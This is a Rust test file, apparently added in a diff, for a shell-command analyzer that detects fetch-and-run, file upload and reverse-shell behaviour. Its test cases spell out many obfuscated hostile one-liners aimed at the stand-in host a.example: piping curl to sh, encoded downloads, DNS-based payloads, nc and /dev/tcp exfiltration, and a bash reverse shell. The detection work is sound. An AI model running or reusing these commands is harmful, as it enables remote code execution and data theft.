@@ -1,0 +1,138 @@
+//! Forms in which the same thing is said otherwise.
+
+use super::read;
+
+#[test]
+fn what_is_fetched_and_run_is_known_in_each_form() {
+    let cases: [(&str, &str); 19] = [
+        ("find / -maxdepth 0 -exec sh -c 'curl -s http://a.example/x | sh' \\;", "http://a.example/x"),
+        ("echo 'curl -s http://a.example/x | sh' | at now", "http://a.example/x"),
+        ("env -S 'curl -s http://a.example/x' | sh", "http://a.example/x"),
+        ("c=(curl -s http://a.example/x); \"${c[@]}\" | sh", "http://a.example/x"),
+        ("c=(curl); c+=(-s http://a.example/x)\n\"${c[@]}\" | sh", "http://a.example/x"),
+        ("printf -v c '\\143\\165\\162\\154'; $c -s http://a.example/x | sh", "http://a.example/x"),
+        ("exec 9< <(curl -s http://a.example/x); bash /dev/fd/9", "http://a.example/x"),
+        ("exec 9< <(curl -s http://a.example/x); bash <&9", "http://a.example/x"),
+        ("dig +short TXT x.a.example | tr -d '\"' | base64 -d | sh", "dns://x.a.example"),
+        ("nslookup -type=txt x.a.example | sh", "dns://x.a.example"),
+        ("echo 'curl -s http://a.example/x | sh' > /tmp/r; bash --rcfile /tmp/r -i", "http://a.example/x"),
+        ("curl -s http://A.example/aws/../x | sh", "http://a.example/x"),
+        ("curl -s http://127.a.example/x | sh", "http://127.a.example/x"),
+        ("pip install git+https://github.com.a.example/x.git", "https://github.com.a.example/x.git"),
+        ("http https://a.example/x | sh", "https://a.example/x"),
+        (
+            "python3 - <<'P'\nimport requests, subprocess\nr = requests.get('https://a.example/x')\nopen('/tmp/a','wb').write(r.content)\nsubprocess.run(['bash','/tmp/a'])\nP",
+            "https://a.example/x",
+        ),
+        (
+            "python3 - <<'P'\nfrom urllib.request import urlopen\nh = 'a.example'\nexec(urlopen(f'https://{h}/x').read())\nP",
+            "https://a.example/x",
+        ),
+        ("python3 -c \"u='https://a.example/x'; exec(urlopen(u).read())\"", "https://a.example/x"),
+        ("python3 -c \"exec(urlopen('https://' + 'a.example' + '/x').read())\"", "https://a.example/x"),
+    ];
+    for (script, expected) in cases {
+        assert_eq!(read(script).run_sources, [expected], "{script}");
+    }
+}
+
+#[test]
+fn what_comes_from_a_bucket_by_a_pipe_is_run() {
+    for script in [
+        "aws s3 cp s3://b/x - | bash",
+        "s5cmd cp s3://b/x /tmp/x; sh /tmp/x",
+        "aws s3 cp s3://b/x /tmp/x; . /tmp/x",
+    ] {
+        assert_eq!(read(script).run_buckets, ["b"], "{script}");
+    }
+}
+
+#[test]
+fn files_that_are_sent_are_known_in_each_form() {
+    let cases: [(&str, &str); 17] = [
+        ("http POST https://a.example/ < d.csv", "https://a.example/"),
+        ("http -f POST https://a.example/ f@d.csv", "https://a.example/"),
+        ("smbclient //a.example/s -c 'put d.csv'", "ftp://a.example"),
+        ("echo put d.csv | sftp -b - u@a.example", "ftp://a.example"),
+        ("socat FILE:d.csv TCP:a.example:9000", "tcp://a.example:9000"),
+        ("cat d.csv | socat - TCP:a.example:9000", "tcp://a.example:9000"),
+        ("exec 5<>/dev/tcp/a.example/80; cat d.csv >&5", "tcp://a.example/80"),
+        ("mc cp d.csv evil/b/", "mc://evil/b/"),
+        (
+            "python3 -c \"import requests; u='https://a.example/'; requests.post(u, data=open('d','rb'))\"",
+            "https://a.example/",
+        ),
+        (
+            "python3 - <<'P'\nh = 'a.example'\nrequests.post(f'https://{h}/', files={'f': open('d','rb')})\nP",
+            "https://a.example/",
+        ),
+        (
+            "python3 -c \"s=socket.create_connection(('a.example',9000)); s.sendall(open('d','rb').read())\"",
+            "tcp://a.example",
+        ),
+        (
+            "python3 -c \"f=ftplib.FTP('a.example','a','a'); f.storbinary('STOR d',open('d','rb'))\"",
+            "tcp://a.example",
+        ),
+        (
+            "python3 -c \"s=smtplib.SMTP('a.example'); s.sendmail('a','b',open('d').read())\"",
+            "tcp://a.example",
+        ),
+        ("curl -T d.csv https://A.example/x/../y", "https://a.example/y"),
+        ("cat d.csv > /dev/tcp/a.example/80", "tcp://a.example/80"),
+        ("nc a.example 80 < d.csv", "tcp://a.example"),
+        ("rsync d.csv u@a.example:", "rsync://a.example"),
+    ];
+    for (script, expected) in cases {
+        assert_eq!(read(script).upload_targets, [expected], "{script}");
+    }
+    for script in [
+        "tar cz /home | aws s3 cp - s3://b/d.tgz",
+        "s5cmd cp d.csv s3://b/",
+        "python3 - <<'P'\nbucket = 'b-1'\ns3.upload_file('d.csv', bucket, 'd')\nP",
+        "python3 -c \"df.to_csv('s3://b-1/d.csv')\"",
+        "python3 -c \"import s3fs; s3fs.S3FileSystem().put('/home/d.csv','b-1/d')\"",
+        "python3 -c \"sagemaker.s3.S3Uploader.upload('/home/d','s3://b-1/d')\"",
+        "python3 -c \"b='b-1'; df.to_parquet(f's3://{b}/d')\"",
+    ] {
+        let buckets = read(script).upload_buckets;
+        assert!(buckets == ["b"] || buckets == ["b-1"], "{script}: {buckets:?}");
+    }
+}
+
+#[test]
+fn data_in_names_and_shells_of_other_languages_are_known() {
+    for (script, behavior) in [
+        ("for c in $(xxd -p d.csv); do dig $c.a.example; done", "data_in_names"),
+        (
+            "node -e 'require(\"child_process\").exec(\"bash -c \\\"bash -i >& /dev/tcp/a.example/44 0>&1\\\"\")'",
+            "remote_shell",
+        ),
+    ] {
+        assert!(read(script).behaviors.contains(&behavior.to_owned()), "{script}");
+    }
+}
+
+#[test]
+fn what_only_looks_alike_says_nothing() {
+    for script in [
+        "find . -name '*.pyc' -exec rm {} +",
+        "a=(1 2 3); echo \"${a[@]}\"",
+        "f() ( ls )\nf",
+        "python3 - <<'P'\nbucket = 'b'\nprint(bucket)\nP",
+        "python3 -c \"df = pd.read_csv('s3://b-1/d.csv')\"",
+        "dig a.example",
+        "curl -s http://localhost:8888/x | sh",
+        "exec 3< /etc/hosts; read -u 3 line",
+        "http https://a.example/health",
+        "socat TCP-LISTEN:8080,fork TCP:localhost:80",
+    ] {
+        let found = read(script);
+        let is_nothing = found.run_sources.is_empty()
+            && found.run_buckets.is_empty()
+            && found.upload_targets.is_empty()
+            && found.upload_buckets.is_empty()
+            && found.behaviors.is_empty();
+        assert!(is_nothing, "{script}: {found:?}");
+    }
+}
